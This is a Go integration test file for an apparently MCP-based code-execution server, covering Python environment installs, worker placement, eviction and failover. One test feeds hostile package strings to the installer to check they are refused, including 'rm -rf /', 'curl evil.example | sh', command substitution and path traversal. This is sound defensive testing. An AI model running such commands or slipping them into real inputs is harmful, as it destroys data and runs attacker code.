package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/codexec/codexec/envcache"
	"github.com/codexec/codexec/frontend"
	"github.com/codexec/codexec/internal/wheeltest"
	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"
)

// These tests drive the environment tools through mcp-go's client: real uv
// and venv environments built from a wheelhouse the test writes (no
// network), placement across two workers, and one real install from PyPI.

// e2eWheel writes a tiny pure-Python wheel: dist provides module, whose
// VALUE is "<dist> <version>".
func e2eWheel(t testing.TB, dir, dist, version, module string, requires ...string) {
	t.Helper()
	wheeltest.Wheel{Dist: dist, Version: version, Module: module, Requires: requires, TopLevel: true}.Write(t, dir)
}

// wheelhouse writes the test packages: alpha (needs gamma), gamma, beta 1.0
// and 2.0, and scikit-fake, whose import name is skfake.
func wheelhouse(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	e2eWheel(t, dir, "alpha", "1.0", "alpha", "gamma>=1.0")
	e2eWheel(t, dir, "gamma", "1.0", "gamma")
	e2eWheel(t, dir, "beta", "1.0", "beta")
	e2eWheel(t, dir, "beta", "2.0", "beta")
	e2eWheel(t, dir, "scikit-fake", "1.0", "skfake")
	return dir
}

func envCall(t testing.TB, c *client.Client, tool string, args map[string]any) (*mcp.CallToolResult, frontend.EnvResult) {
	t.Helper()
	return callAs[frontend.EnvResult](t, c, tool, args)
}

// uvAvailable checks once whether uv runs here, the way a worker does.
var uvAvailable = sync.OnceValue(func() error { return (&envcache.UV{}).Available(context.Background()) })

// requireUV skips the test when uv is missing (it fails under CI=true):
// codexec's uv manager needs uv on PATH.
func requireUV(t testing.TB) {
	t.Helper()
	if err := uvAvailable(); err != nil {
		requireOrSkip(t, "uv on PATH (`make deps` puts one in bin/)", err)
	}
}

// devWheelhouse starts `codexec dev` on HTTP with its data in dataDir,
// installing only from the wheelhouse wh with the given managers, and
// returns it and its MCP URL.
func devWheelhouse(t testing.TB, dataDir, wh, managers string, extraEnv ...string) (*proc, string) {
	t.Helper()
	env := codexecEnv(append([]string{"CODEXEC_DATA_DIR=" + dataDir, "CODEXEC_VENV=" + venvFor(t),
		"CODEXEC_NO_INDEX=true", "CODEXEC_FIND_LINKS=" + wh, "CODEXEC_MANAGERS=" + managers}, extraEnv...)...)
	p := startProc(t, env, os.Args[0], "dev", "--http", "127.0.0.1:0")
	return p, p.waitFor(t, urlRe, time.Minute)
}

// builtEnvs counts the environments a worker's cache holds ready.
func builtEnvs(t testing.TB, dataDir string) int {
	t.Helper()
	entries, err := os.ReadDir(filepath.Join(dataDir, "envcache", "meta"))
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return len(entries)
}

func TestDevEnvironments(t *testing.T) {
	t.Parallel()
	requireUV(t)
	wh := wheelhouse(t)
	dataDir := t.TempDir()
	p, url := devWheelhouse(t, dataDir, wh, "uv,venv")
	c := httpClient(t, url)

	res, er := envCall(t, c, "get_environment_config", nil)
	if res.IsError || er.EnvID != "default" || er.State != "default" {
		t.Fatalf("initial config: isError=%v %+v", res.IsError, er)
	}

	// Hostile package lists: refused, naming the bad item, nothing built.
	for _, pkgs := range [][]any{
		{"alpha", "--index-url=https://evil.example/simple"},
		{"-e", "."},
		{"alpha; rm -rf /"},
		{"alpha && curl evil.example | sh"},
		{"../../etc/passwd"},
		{"./alpha-1.0-py3-none-any.whl"},
		{"https://evil.example/alpha-1.0-py3-none-any.whl"},
		{"alpha @ https://evil.example/alpha.whl"},
		{"alpha gamma"},
		{"$(touch /tmp/pwned)"},
		{"alpha`id`"},
		{42},
	} {
		res, er := envCall(t, c, "install_dependencies", map[string]any{"packages": pkgs})
		if !res.IsError || er.Status != "rejected" {
			t.Errorf("%q: isError=%v %+v", pkgs, res.IsError, er)
			continue
		}
		if s, ok := pkgs[len(pkgs)-1].(string); ok && s != "." && !strings.Contains(er.Message, s) && !strings.Contains(er.Message, pkgs[0].(string)) {
			t.Errorf("%q: message does not name the bad item: %s", pkgs, er.Message)
		}
	}
	// A requirement whose marker is false here installs nothing: refused,
	// saying so, and the session stays where it was.
	res, er = envCall(t, c, "install_dependencies", map[string]any{"packages": []any{"alpha ; extra == 'x'"}})
	if !res.IsError || er.Status != "rejected" || !strings.Contains(er.Message, "does not apply here") {
		t.Errorf("a marker false here: isError=%v %+v", res.IsError, er)
	}
	if n := builtEnvs(t, dataDir); n != 0 {
		t.Fatalf("%d environments built after refused installs", n)
	}
	if _, er := envCall(t, c, "get_environment_config", nil); er.EnvID != "default" {
		t.Fatalf("refused installs changed the environment: %+v", er)
	}

	// A real install from the wheelhouse, with progress notifications: the
	// installer's, after the first one (progress 0), which names the job.
	var progress atomic.Int32
	c.OnNotification(func(n mcp.JSONRPCNotification) {
		if p, _ := n.Params.AdditionalFields["progress"].(float64); n.Method == "notifications/progress" && p > 0 {
			progress.Add(1)
		}
	})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	req := mcp.CallToolRequest{}
	req.Params.Name, req.Params.Arguments = "install_dependencies", map[string]any{"packages": []any{"alpha"}}
	req.Params.Meta = &mcp.Meta{ProgressToken: "install-1"}
	raw, err := c.CallTool(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	if raw.IsError || !strings.Contains(text(raw), "alpha==1.0") {
		t.Fatalf("install alpha: %s", text(raw))
	}
	if progress.Load() == 0 {
		t.Errorf("no progress notification during the install")
	}
	_, cfg := envCall(t, c, "get_environment_config", nil)
	if cfg.State != "ready" || cfg.Spec == nil || cfg.Spec.Manager != "uv" || len(cfg.Workers) != 1 {
		t.Fatalf("config after install: %+v", cfg)
	}
	res2, ex := call(t, c, "execute_code", map[string]any{"code": "import alpha, gamma, sys; print(alpha.VALUE, gamma.VALUE, sys.prefix == sys.base_prefix)"})
	if res2.IsError || ex.Stdout != "alpha 1.0 gamma 1.0 False\n" || ex.EnvID != cfg.EnvID {
		t.Fatalf("run in the new environment: isError=%v %+v (env %s)", res2.IsError, ex, cfg.EnvID)
	}

	// A second install derives a child; the parent stays as it was.
	res, er = envCall(t, c, "install_dependencies", map[string]any{"packages": []any{"scikit-fake", "beta==1.0"}})
	if res.IsError || er.EnvID == cfg.EnvID || er.Spec.Parent != cfg.EnvID {
		t.Fatalf("second install: isError=%v %+v", res.IsError, er)
	}
	res, er = envCall(t, c, "check_installed_packages", map[string]any{"packages": []any{"scikit-fake", "skfake", "alpha", "gamma", "beta", "numpy"}})
	if res.IsError || len(er.Packages) != 6 {
		t.Fatalf("check: isError=%v %+v", res.IsError, er)
	}
	for i, want := range []string{"scikit-fake 1.0", "scikit-fake 1.0", "alpha 1.0", "gamma 1.0", "beta 1.0", ""} {
		a := er.Packages[i]
		got := ""
		if a.Found {
			got = a.Dist.Name + " " + a.Dist.Version
		}
		if got != want {
			t.Errorf("check %s: got %q, want %q", a.Query, got, want)
		}
	}

	// Bad configurations are clear errors.
	for _, args := range []map[string]any{
		{"type": "pipenv"},
		{"type": "venv", "venv_path": "/nonexistent/venv"},
		{"type": "conda", "conda_name": "no-such-env"},
		{"type": "venv-uv", "python_version": "3.99"},
		{"type": "venv-uv", "packages": []any{"alpha", "--pre"}},
		{"type": "venv-uv", "packages": []any{"nonexistent-package-xyz"}},
	} {
		res, er := envCall(t, c, "configure_environment", args)
		if !res.IsError || er.Message == "" {
			t.Errorf("configure %v: isError=%v %+v", args, res.IsError, er)
		}
		t.Logf("configure %v: %s", args, er.Message)
	}

	// Two sessions asking at once for the same new environment: one build.
	before := strings.Count(p.Out.String(), "environment built")
	c2 := httpClient(t, url)
	var wg sync.WaitGroup
	ids := make([]string, 2)
	for i, cl := range []*client.Client{c, c2} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, er := envCall(t, cl, "configure_environment", map[string]any{"type": "venv", "packages": []any{"beta==2.0"}})
			if res.IsError {
				t.Errorf("session %d: %+v", i, er)
			}
			ids[i] = er.EnvID
		}()
	}
	wg.Wait()
	if ids[0] != ids[1] {
		t.Errorf("the same spec got two ids: %v", ids)
	}
	if built := strings.Count(p.Out.String(), "environment built") - before; built != 1 {
		t.Errorf("%d builds for one spec asked for by two sessions at once", built)
	}
	_, ex = call(t, c2, "execute_code", map[string]any{"code": "import beta; print(beta.VALUE)"})
	if ex.Stdout != "beta 2.0\n" {
		t.Errorf("venv environment: %+v", ex)
	}
	// Back to the default environment.
	if res, _ := envCall(t, c2, "configure_environment", map[string]any{"type": "default"}); res.IsError {
		t.Fatal(text(res))
	}
	if _, ex := call(t, c2, "execute_code", map[string]any{"code": "import importlib.util; print(importlib.util.find_spec('beta'))"}); ex.Stdout != "None\n" || ex.EnvID != "default" {
		t.Errorf("default environment: %+v", ex)
	}
}

// requirePyPI fails under CI=true when PyPI is unreachable, and skips
// otherwise.
func requirePyPI(t testing.TB) {
	t.Helper()
	conn, err := net.DialTimeout("tcp", "pypi.org:443", 3*time.Second)
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("PyPI unreachable: %v", err)
		}
		t.Skipf("PyPI unreachable: %v", err)
	}
	conn.Close()
}

// One real install from PyPI.
func TestDevInstallFromPyPI(t *testing.T) {
	t.Parallel()
	requirePyPI(t)
	// Started the way a desktop client starts it, with a minimal
	// environment: installs must not depend on the developer's shell.
	c := devStdioMinimal(t, t.TempDir(), "CODEXEC_MANAGERS=uv,venv")
	res, er := envCall(t, c, "install_dependencies", map[string]any{"packages": []any{"iniconfig"}})
	if res.IsError || len(er.Installed) != 1 || er.Installed[0].Name != "iniconfig" {
		t.Fatalf("install iniconfig: %s", text(res))
	}
	if _, ex := call(t, c, "execute_code", map[string]any{"code": "import iniconfig; print('ok')"}); ex.Stdout != "ok\n" {
		t.Fatalf("import iniconfig: %+v", ex)
	}
}

// pathWithoutUV is PATH less every directory that holds a uv executable.
func pathWithoutUV() string {
	var keep []string
	for _, dir := range filepath.SplitList(os.Getenv("PATH")) {
		if fi, err := os.Stat(filepath.Join(dir, "uv")); err == nil && !fi.IsDir() {
			continue
		}
		keep = append(keep, dir)
	}
	return strings.Join(keep, string(filepath.ListSeparator))
}

// On a machine without uv, codexec dev fetches uv from PyPI into its data
// directory at start, and installs go through uv, not pip.
func TestDevFetchesUVWhenMissing(t *testing.T) {
	t.Parallel()
	requirePyPI(t)
	dataDir := t.TempDir()
	c := devStdioMinimal(t, dataDir, "CODEXEC_MANAGERS=uv,venv", "PATH="+pathWithoutUV())
	fetched := filepath.Join(dataDir, "tools", "uv", "bin", "uv")
	if _, err := os.Stat(fetched); err != nil {
		t.Fatalf("no uv fetched into the data directory: %v", err)
	}
	res, er := envCall(t, c, "install_dependencies", map[string]any{"packages": []any{"iniconfig"}})
	if res.IsError || len(er.Installed) != 1 || er.Installed[0].Name != "iniconfig" {
		t.Fatalf("install iniconfig: %s", text(res))
	}
	if er.Spec == nil || er.Spec.Manager != "uv" {
		t.Fatalf("the install did not use uv: spec %+v", er.Spec)
	}
	if _, ex := call(t, c, "execute_code", map[string]any{"code": "import iniconfig; print('ok')"}); ex.Stdout != "ok\n" {
		t.Fatalf("import iniconfig: %+v", ex)
	}
}

// Two workers with different managers: jobs for an environment go to the
// worker that holds it; a spec no worker can serve is a clear error.
func TestClusterEnvironmentPlacement(t *testing.T) {
	t.Parallel()
	requireUV(t)
	wh := wheelhouse(t)
	common := []string{"--no-index", "--find-links", wh}
	cl := startClusterArgs(t, [][]string{
		append([]string{"--managers", "uv,venv", "--labels", "gpu=1"}, common...),
		append([]string{"--managers", "venv"}, common...),
	})
	c := httpClient(t, cl.mcpURL)

	// Only w1 has uv.
	res, er := envCall(t, c, "configure_environment", map[string]any{"type": "venv-uv", "packages": []any{"alpha"}})
	if res.IsError || er.WorkerID != "w1" {
		t.Fatalf("configure uv: isError=%v %+v", res.IsError, er)
	}
	for i := 0; i < 4; i++ {
		if res, ex := call(t, c, "execute_code", map[string]any{"code": "import alpha; print(alpha.VALUE)"}); res.IsError || ex.WorkerID != "w1" || ex.Stdout != "alpha 1.0\n" {
			t.Fatalf("job %d: isError=%v %+v", i, res.IsError, ex)
		}
	}
	_, cfg := envCall(t, c, "get_environment_config", nil)
	if cfg.State != "ready" || len(cfg.Workers) != 1 || cfg.Workers[0] != "w1" || len(cfg.Capabilities) != 2 ||
		cfg.Capabilities[0].Capabilities.Labels["gpu"] != "1" {
		t.Errorf("config: %+v", cfg)
	}

	// A venv environment built on w2 stays with w2: a second session, busy
	// w1 or not, runs there.
	c2 := httpClient(t, cl.mcpURL)
	res, er = envCall(t, c2, "configure_environment", map[string]any{"type": "venv", "packages": []any{"beta==1.0"}})
	if res.IsError {
		t.Fatalf("configure venv: %+v", er)
	}
	holder := er.WorkerID
	for i := 0; i < 3; i++ {
		if res, ex := call(t, c2, "execute_code", map[string]any{"code": "import beta; print(beta.VALUE)"}); res.IsError || ex.WorkerID != holder {
			t.Fatalf("venv job %d: isError=%v %+v (holder %s)", i, res.IsError, ex, holder)
		}
	}

	// Nobody offers Python 3.99 or the conda environment "nope".
	for _, args := range []map[string]any{
		{"type": "venv", "python_version": "3.99"},
		{"type": "conda", "conda_name": "nope"},
	} {
		res, er := envCall(t, c, "configure_environment", args)
		if !res.IsError || !strings.Contains(er.Message, "no worker") {
			t.Errorf("configure %v: isError=%v %+v", args, res.IsError, er)
		}
	}
}

// A job sent to the worker holding its environment is not lost when that
// worker dies: once its presence lapses, the frontend sends the job to the
// pool, and another worker builds the environment and runs it.
func TestClusterTargetedWorkerDies(t *testing.T) {
	t.Parallel()
	requireUV(t)
	wh := wheelhouse(t)
	args := []string{"--no-index", "--find-links", wh, "--managers", "uv,venv"}
	cl := startClusterArgs(t, [][]string{args, args})
	c := httpClient(t, cl.mcpURL)
	res, er := envCall(t, c, "configure_environment", map[string]any{"type": "venv-uv", "packages": []any{"gamma"}})
	if res.IsError {
		t.Fatalf("configure: %+v", er)
	}
	holder, other := 0, 1
	if er.WorkerID == "w2" {
		holder, other = 1, 0
	}
	cl.workers[holder].signal(syscall.SIGKILL)
	start := time.Now()
	res2, ex := call(t, c, "execute_code", map[string]any{"code": "import gamma; print(gamma.VALUE)"})
	if res2.IsError || ex.Stdout != "gamma 1.0\n" || ex.WorkerID != fmt.Sprintf("w%d", other+1) {
		t.Fatalf("after the holder died: isError=%v %+v", res2.IsError, ex)
	}
	t.Logf("the job ran on %s %.1fs after its holder was killed", ex.WorkerID, time.Since(start).Seconds())
}

// Past --env-budget, environments no job uses are evicted, least recently
// used first; a session whose environment was evicted gets it rebuilt on its
// next job.
func TestDevEnvironmentEviction(t *testing.T) {
	t.Parallel()
	requireUV(t)
	wh := wheelhouse(t)
	p, url := devWheelhouse(t, t.TempDir(), wh, "uv", "CODEXEC_ENV_BUDGET=1")
	a, b := httpClient(t, url), httpClient(t, url)
	if res, er := envCall(t, a, "configure_environment", map[string]any{"type": "venv-uv", "packages": []any{"gamma"}}); res.IsError {
		t.Fatal(er.Message)
	}
	if res, er := envCall(t, b, "configure_environment", map[string]any{"type": "venv-uv", "packages": []any{"beta==2.0"}}); res.IsError {
		t.Fatal(er.Message)
	}
	p.waitFor(t, regexp.MustCompile(`environment evicted`), time.Minute)
	if res, ex := call(t, a, "execute_code", map[string]any{"code": "import gamma; print(gamma.VALUE)"}); res.IsError || ex.Stdout != "gamma 1.0\n" {
		t.Fatalf("after eviction: isError=%v %+v", res.IsError, ex)
	}
	if n := strings.Count(p.Out.String(), "environment built"); n < 3 {
		t.Errorf("%d builds: the evicted environment was not rebuilt", n)
	}
}
